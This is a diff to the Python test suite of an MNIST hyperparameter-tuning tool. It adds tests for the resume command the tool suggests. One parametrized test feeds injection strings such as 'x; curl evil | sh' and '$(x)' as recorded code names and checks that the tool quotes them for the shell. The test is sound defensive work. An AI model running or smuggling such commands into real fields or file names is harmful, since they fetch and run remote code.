@@ -4,6 +4,7 @@ import importlib
 import inspect
 import json
 import pickle
+import shlex
 import subprocess
 import sys
 from types import ModuleType
@@ -13,7 +14,7 @@ from ray import tune
 
 from mnist_tune import TrialConfig, UserError
 from mnist_tune.own_code.loading import check_again, load_own, names_in, own_code, register_own, sources
-from mnist_tune.own_code.registry import ENTRIES, register
+from mnist_tune.own_code.registry import ENTRIES, Entry, register
 from mnist_tune.results.journal import resume_command
 from mnist_tune.terminal import printable
 
@@ -194,8 +195,29 @@ def test_a_resume_without_the_code_says_what_to_name(folder):
     ):
         check_again(recorded, "results/x", print)
     meta = {"name": "lr_regimes", "code": [*recorded, {"flag": "optimizer", "name": "my opt.py:adam", "files": {}}]}
+    assert resume_command(meta, "results/x") == "mnist-tune regimes --resume results/x", "nobody has named it here"
+    ENTRIES["architecture"]["net.py:mlp"] = ENTRIES["optimizer"]["my opt.py:adam"] = Entry(lambda: None)
     command = resume_command(meta, "results/x")
-    assert command == ("mnist-tune regimes --resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'")
+    assert command == "mnist-tune regimes --resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"
+
+
+@pytest.mark.parametrize("name", ["x; curl evil | sh", "--address=evil:6379", "it's", "$(x)"])
+def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
+    recorded = [{"flag": "architecture", "name": name, "files": {}}]
+    with pytest.raises(UserError) as caught:
+        check_again(recorded, "results/x y", print)
+    given = str(caught.value).partition("name it again: ")[2].partition(", or register")[0]
+    words = ["--resume", "results/x y", *([f"--architecture={name}"] if name[0] == "-" else ["--architecture", name])]
+    assert shlex.split(given) == words
+
+
+def test_a_recorded_text_of_a_million_lines_is_compared_at_once(folder):
+    load_own({"architecture": ["net.py:mlp"]})
+    recorded = sources({"architecture": ["net.py:mlp"]})
+    recorded[0]["files"]["net.py"] = {"sha256": "", "lines": [""] * 1_000_000}
+    said = []
+    check_again(recorded, "x", said.append)
+    assert said == ["note: net.py has changed since the sweep started, first in line 1: from layers import WIDTH"]
 
 
 def test_a_resume_elsewhere_says_where_the_code_was_named(folder, monkeypatch):
@@ -300,6 +322,7 @@ def test_a_network_and_an_optimizer_share_the_classes_of_a_module_here_and_elsew
     assert len({load()(0) for load in own_code()[1].values()}) == 1
     script = f"""
 import pickle
+import shlex
 from mnist_tune.own_code import loading, registry
 loading.register_own(pickle.loads({pickle.dumps(own_code())!r}))
 print(len({{one.factory(0) for known in registry.ENTRIES.values() for one in known.values()}}))
